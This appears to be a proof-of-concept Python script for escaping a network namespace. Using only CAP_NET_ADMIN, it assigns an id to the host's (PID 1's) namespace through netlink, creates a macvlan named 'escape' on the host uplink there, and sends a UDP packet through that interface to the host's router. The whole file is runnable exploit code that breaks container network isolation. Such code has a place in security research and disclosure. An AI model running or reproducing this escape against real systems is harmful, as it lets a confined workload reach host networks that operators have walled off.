"""With CAP_NET_ADMIN alone: makes a macvlan on the host's uplink, whose index is the argument, and sends by it."""

from __future__ import annotations

import socket
import struct
import subprocess
import sys

from wgns_helpers import netlink

RTM_NEWNSID, NETNSA_NSID, NETNSA_PID = 88, 1, 2  # linux/rtnetlink.h, linux/net_namespace.h
IFLA_IFNAME, IFLA_LINK, IFLA_LINKINFO, IFLA_LINK_NETNSID = 3, 5, 18, 37  # linux/if_link.h
NUMBER = 7  # what this namespace calls that of PID 1
TARGET, PORT = "198.51.100.1", 13  # the host's router


def main(uplink: int) -> None:
    """Name the host's namespace, which takes no privilege in it, and reach into it."""
    name = bytes(4) + netlink.attribute(NETNSA_NSID, struct.pack("=i", NUMBER))
    name += netlink.attribute(NETNSA_PID, struct.pack("=I", 1))
    link = bytes(16) + netlink.attribute(IFLA_IFNAME, b"escape\0")
    link += netlink.attribute(IFLA_LINK, struct.pack("=I", uplink))
    link += netlink.attribute(IFLA_LINK_NETNSID, struct.pack("=i", NUMBER))
    link += netlink.attribute(IFLA_LINKINFO, netlink.attribute(1, b"macvlan\0"))
    with netlink.Socket() as route:
        route.run([netlink.Request("name", RTM_NEWNSID, name)])
        route.run([netlink.Request("link", netlink.RTM_NEWLINK, link, netlink.CREATE | netlink.EXCL)])
    commands = "address add 198.51.100.9/24 dev escape\nlink set escape up\n"
    subprocess.run(["ip", "-batch", "-"], input=commands, text=True, check=True)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"escape")
        made.sendto(b"?", (TARGET, PORT))


if __name__ == "__main__":
    main(int(sys.argv[1]))
